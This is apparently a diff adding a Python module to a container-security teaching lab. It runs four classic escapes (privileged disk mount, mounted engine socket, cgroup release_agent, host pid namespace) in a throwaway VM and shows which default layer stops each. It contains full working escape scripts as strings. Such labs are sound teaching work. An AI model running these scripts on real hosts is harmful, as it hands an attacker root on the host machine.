@@ -1,0 +1,286 @@
+"""Container escapes: four classic misconfigurations that hand a container the host, and what stops each.
+
+A container is a process of the host's kernel. Every wall around it is a
+kernel check that a runtime switched on, so every wall has a switch that
+turns it off again; and some switches, thrown by an operator in a hurry,
+hand the container the whole machine:
+
+================  ===========================  ===================================  ==========================
+escape            misconfiguration             how it reaches the host              what stops it by default
+================  ===========================  ===================================  ==========================
+``disk``          ``--privileged``             mknod the host's disk, mount(2) it,  seccomp (no mount(2)
+                                               read any file                        without CAP_SYS_ADMIN), and
+                                                                                    the capability set itself
+``socket``        ``-v /run/engine.sock:...``  ask the engine (root on the host)    nothing in the container:
+                                               for a privileged container with /    only not mounting the
+                                               bind-mounted                         socket (mount namespace)
+``release_agent`` ``--cap-add SYS_ADMIN``      mount a cgroup v1 hierarchy, set its seccomp and capabilities
+                                               release_agent: the kernel runs it    (mount(2) refused)
+                                               as the host's root
+``pid``           ``--pid host --cap-add       /proc/PID/root of a host process is  the pid namespace (no host
+                  SYS_PTRACE``                 the host's /                         process visible); without
+                                                                                    it, CAP_SYS_PTRACE
+================  ===========================  ===================================  ==========================
+
+Each escape runs in a throwaway VM that plays the host (``hostvm.py``),
+never on the learner's machine: its disk holds ``/etc/lab-host-secret``,
+a random line, and an escape has worked when the container prints it. The
+same attack script runs in the same VM as several containers: once with the
+misconfiguration, once with ``labcore run``'s defaults, and with one layer
+of the default removed, which shows which layer alone is enough to stop it.
+The containers are started inside the VM by ``escapeguest.py``.
+
+The attack scripts below are what an attacker types in the container; the
+notebook prints them. Used by deep dive D.
+"""
+
+from __future__ import annotations
+
+import base64
+import json
+import time
+from dataclasses import dataclass, field, replace
+
+from ..errors import InvalidInputError, LabError
+from .escapeguest import RESULT, SNAPSHOT
+from .hostvm import SECRET_PATH, HostVM
+
+DISK_SH = """#!/bin/sh
+# The host's disks are listed in /proc/partitions, which no namespace filters.
+set -- $(grep ' nvme0n1$' /proc/partitions)
+echo "the host's disk: $4, block device $1:$2"
+# A privileged container may create any device node (CAP_MKNOD) and mount (CAP_SYS_ADMIN).
+rm -f /tmp/hostdisk
+mknod /tmp/hostdisk b "$1" "$2" || exit 1
+mkdir -p /mnt/host
+mount -t ext4 /tmp/hostdisk /mnt/host || exit 1
+cat /mnt/host/etc/lab-host-secret
+"""
+
+SOCKET_PY = """import json, socket, sys
+# Whoever reaches the engine's socket speaks for the engine: a daemon running as the host's root.
+s = socket.socket(socket.AF_UNIX)
+try:
+    s.connect("/run/engine.sock")
+except OSError as e:
+    sys.exit(f"connect /run/engine.sock: {e.strerror}")
+ask = {"Image": "busybox", "Cmd": ["cat", "/host/etc/lab-host-secret"],
+       "HostConfig": {"Privileged": True, "Binds": ["/:/host"]}}     # the host's / inside the new container
+s.sendall(json.dumps(ask).encode() + b"\\n")
+print("the engine's container says:", json.loads(s.makefile().readline())["Output"], end="")
+"""
+
+RELEASE_AGENT_SH = """#!/bin/sh
+rm -f /escape/out
+# A new cgroup v1 hierarchy with no controller, only a name: it still has a release_agent file.
+mkdir -p /tmp/cg
+mount -t cgroup -o none,name=lab-escape cgroup /tmp/cg || exit 1
+mkdir -p /tmp/cg/x
+echo 1 > /tmp/cg/x/notify_on_release
+# Where is our / on the host's disk? The root field of our / mount in mountinfo says.
+while read -r id parent dev root point rest; do [ "$point" = / ] && host=$root && break; done < /proc/self/mountinfo
+echo "our / is $host on the host"
+printf '#!/bin/sh\\ncat /etc/lab-host-secret > %s/escape/out\\n' "$host" > /escape/payload
+chmod +x /escape/payload
+echo "$host/escape/payload" > /tmp/cg/release_agent || exit 1
+# A process joins the cgroup and exits: the cgroup empties, the kernel runs release_agent as the host's root.
+sh -c 'echo $$ > /tmp/cg/x/cgroup.procs'
+n=0; while [ ! -s /escape/out ] && [ $n -lt 100 ]; do sleep 0.1; n=$((n+1)); done
+cat /escape/out
+"""
+
+PID_SH = """#!/bin/sh
+# Look for the host's init among the processes this container can see.
+for d in /proc/[0-9]*; do [ "$(cat $d/comm 2>/dev/null)" = lab-init ] && pid=${d#/proc/}; done
+[ -n "$pid" ] || { echo "no host process in sight: PID 1 here is $(cat /proc/1/comm)"; exit 1; }
+echo "the host's init is PID $pid here"
+# /proc/PID/root is that process's / : the host's root filesystem.
+cat /proc/$pid/root/etc/lab-host-secret || exit 1
+"""
+
+SCRIPTS = {"disk.sh": DISK_SH, "engine_client.py": SOCKET_PY, "release_agent.sh": RELEASE_AGENT_SH, "pid.sh": PID_SH}
+ENGINE_SOCKET = "/run/lab-engine.sock"
+
+
+@dataclass(frozen=True)
+class Escape:
+    """One misconfiguration: the attack, the runs to compare, and the layer that stops it."""
+
+    id: str
+    title: str
+    argv: tuple                 # the attack, run in the container
+    runs: tuple                 # (name, labcore run flags, escapes?) in order; the first is the misconfiguration
+    layer: str                  # which layer of the default stops it, in words
+    setup: str = ""             # a command the host's root runs first (the engine)
+
+    @property
+    def script(self) -> str:
+        """The attack's text, as the notebook prints it."""
+        return SCRIPTS.get(self.argv[-1].rsplit("/", 1)[-1], "")
+
+
+ESCAPES = {e.id: e for e in (
+    Escape("disk", "A --privileged container mounts the host's disk", ("sh", "/escape/disk.sh"),
+           (("misconfigured: --privileged", ("--privileged",), True),
+            ("default", (), False),
+            ("default without seccomp", ("--security-opt", "seccomp=unconfined"), False)),
+           "seccomp refuses mount(2) to a container without CAP_SYS_ADMIN (EPERM before any check); "
+           "with the filter off, the capability check refuses it too: CAP_SYS_ADMIN is not among the 14"),
+    Escape("socket", "The engine's socket mounted into a container", ("python3", "/escape/engine_client.py"),
+           (("misconfigured: socket mounted, default profile", ("-v", f"{ENGINE_SOCKET}:/run/engine.sock"), True),
+            ("default", (), False)),
+           "the mount namespace: a default container has nothing of the host mounted, so there is no socket "
+           "to connect to. No capability, seccomp rule or masked path helps once it is mounted: the "
+           "misconfigured run had all of them",
+           setup=f"python3 -m labcore.teach.escapeguest engine {ENGINE_SOCKET} >/run/engine.log 2>&1 & "
+                 f"n=0; while [ ! -S {ENGINE_SOCKET} ] && [ $n -lt 600 ]; do sleep 0.1; n=$((n+1)); done; "
+                 f"test -S {ENGINE_SOCKET}"),
+    Escape("release_agent", "CAP_SYS_ADMIN and cgroup v1's release_agent", ("sh", "/escape/release_agent.sh"),
+           (("misconfigured: --cap-add SYS_ADMIN", ("--cap-add", "SYS_ADMIN"), True),
+            ("default", (), False),
+            ("default without seccomp", ("--security-opt", "seccomp=unconfined"), False)),
+           "seccomp refuses mount(2) without CAP_SYS_ADMIN, and the capability check refuses it even with "
+           "the filter off: no cgroup hierarchy can be mounted, so there is no release_agent to write"),
+    Escape("pid", "The host's pid namespace with CAP_SYS_PTRACE", ("sh", "/escape/pid.sh"),
+           (("misconfigured: --pid host --cap-add SYS_PTRACE", ("--pid", "host", "--cap-add", "SYS_PTRACE"), True),
+            ("default", (), False),
+            ("--pid host alone", ("--pid", "host"), False)),
+           "the pid namespace: no host process is visible at all. With --pid host alone, the capability "
+           "check stops it: following /proc/PID/root of a process whose capabilities exceed ours "
+           "needs CAP_SYS_PTRACE (ptrace access mode checks, ptrace(2))"),
+)}
+
+
+@dataclass
+class Run:
+    """One container of the comparison: its flags, exit status, output and whether it read the secret."""
+
+    name: str
+    flags: tuple
+    status: int
+    output: str
+    seconds: float
+    escaped: bool
+
+    def last_line(self) -> str:
+        lines = [l for l in self.output.strip().splitlines() if l.strip()]
+        return lines[-1] if lines else ""
+
+
+@dataclass
+class Outcome:
+    """What one escape did in its throwaway host: every run, and the VM's timings."""
+
+    escape: Escape
+    runs: list = field(default_factory=list)
+    build_seconds: float = 0.0
+    boot_seconds: float = 0.0
+    total_seconds: float = 0.0
+    lsm: str = ""
+
+    def run(self, name: str) -> Run:
+        for r in self.runs:
+            if r.name == name or r.name.startswith(name):
+                return r
+        raise InvalidInputError(f"no run {name!r}", f"runs are {', '.join(r.name for r in self.runs)}")
+
+    @property
+    def misconfigured(self) -> Run:
+        return self.runs[0]
+
+    @property
+    def default(self) -> Run:
+        return self.run("default")
+
+    @property
+    def as_expected(self) -> bool:
+        return len(self.runs) == len(self.escape.runs) and all(
+            r.escaped == want for r, (_, _, want) in zip(self.runs, self.escape.runs))
+
+    def table(self) -> str:
+        rows = [f"{'container':50} {'read the host secret':22} last line of its output"]
+        for r in self.runs:
+            rows.append(f"{r.name:50} {'YES: escaped' if r.escaped else 'no':22} {r.last_line()[:70]}")
+        return "\n".join(rows)
+
+    def __repr__(self) -> str:
+        return (f"{self.escape.title}\n{self.table()}\nstopped by: {self.escape.layer}")
+
+
+def _clean(text: str, secret: str) -> str:
+    return text.replace(secret, "<the host's secret>")
+
+
+def demonstrate(escape_id: str, runs=None, memory_mb: int = 512) -> Outcome:
+    """Boot a fresh host VM, run the escape's containers in it, stop it; the VM and its disk are gone after.
+
+    ``runs``: other (name, flags, expected) rows to compare instead of the
+    escape's own. Used by deep dive D. The secret is random for each VM, so
+    a run that prints it has read that VM's disk; outputs show it as
+    ``<the host's secret>``.
+    """
+    try:
+        esc = ESCAPES[escape_id]
+    except KeyError:
+        raise InvalidInputError(f"no escape {escape_id!r}", f"escapes are {', '.join(ESCAPES)}") from None
+    if runs is not None:
+        esc = replace(esc, runs=tuple((n, tuple(f), want) for n, f, want in runs))
+    return _in_a_fresh_host(esc, SCRIPTS, memory_mb)
+
+
+def attack(script: str, flags=("--privileged",), memory_mb: int = 512) -> Run:
+    """Run the shell ``script`` (an attacker's own) in one container with ``flags``, in a fresh host VM.
+
+    Used by deep dive D's exercise: the script is saved as /escape/yours.sh
+    in the container's root filesystem and run with sh.
+    """
+    if not isinstance(script, str) or not script.strip():
+        raise InvalidInputError("the attack script is empty", "give the shell commands as one string")
+    esc = Escape("yours", "your attack", ("sh", "/escape/yours.sh"), (("yours", tuple(flags), True),), "")
+    return _in_a_fresh_host(esc, {**SCRIPTS, "yours.sh": script}, memory_mb).runs[0]
+
+
+def host_processes(containers=(("default", ()), ("pid-host", ("--pid", "host", "--cap-add", "SYS_PTRACE"))),
+                   memory_mb: int = 512):
+    """The process tree of a fresh host VM while a ``sleep`` container runs for each (name, flags):
+    a ``lab.diagrams`` picture, clustered by pid namespace, read from the guest's /proc. Used by deep dive D."""
+    from .diagrams import Diagram
+    from .diagrams.processes import Task, tree_dot, tree_text
+    encoded = base64.b64encode(json.dumps([[n, list(f)] for n, f in containers]).encode()).decode()
+    with HostVM(SCRIPTS, memory_mb=memory_mb) as host:
+        text = host.run(f"python3 -m labcore.teach.escapeguest snapshot {encoded}", timeout=300)
+    line = next((l for l in text.splitlines() if l.startswith(SNAPSHOT + " ")), None)
+    if line is None:
+        raise LabError(f"the host VM sent no process tree: {text[-400:]!r}")
+    data = json.loads(line[len(SNAPSHOT) + 1:])
+    tasks = [Task(**t) for t in data["tasks"]]
+    title = "the host VM's processes: " + ", ".join(f"{n} ({' '.join(f) or 'no flags'})" for n, f in containers)
+    return Diagram(tree_dot(tasks, data["ref"], title=title, left_out=data["left_out"]),
+                   tree_text(tasks, data["ref"], title=title, left_out=data["left_out"]), title)
+
+
+def _in_a_fresh_host(esc: Escape, scripts: dict, memory_mb: int) -> Outcome:
+    start = time.monotonic()
+    steps = [{"name": n, "flags": list(f), "argv": list(esc.argv)} for n, f, _ in esc.runs]
+    encoded = base64.b64encode(json.dumps(steps).encode()).decode()
+    out = Outcome(esc)
+    with HostVM(scripts, memory_mb=memory_mb) as host:
+        out.build_seconds, out.boot_seconds = host.build_seconds, host.boot_seconds
+        out.lsm = host.run("cat /sys/kernel/security/lsm; echo").strip()
+        if esc.setup:
+            host.run(esc.setup)
+        text = host.run(f"python3 -m labcore.teach.escapeguest plan {encoded}", timeout=600)
+        secret = host.secret
+    for line in text.splitlines():
+        if line.startswith(RESULT + " "):
+            r = json.loads(line[len(RESULT) + 1:])
+            flags = next(f for n, f, _ in esc.runs if n == r["name"])
+            out.runs.append(Run(r["name"], flags, r["status"], _clean(r["output"], secret), r["seconds"],
+                                secret in r["output"]))
+    if len(out.runs) != len(esc.runs):
+        raise LabError(f"the host VM reported {len(out.runs)} of {len(esc.runs)} runs: {text[-400:]!r}")
+    out.total_seconds = time.monotonic() - start
+    return out
+
+
+__all__ = ["ESCAPES", "Escape", "Run", "Outcome", "demonstrate", "attack", "host_processes", "SCRIPTS", "SECRET_PATH"]
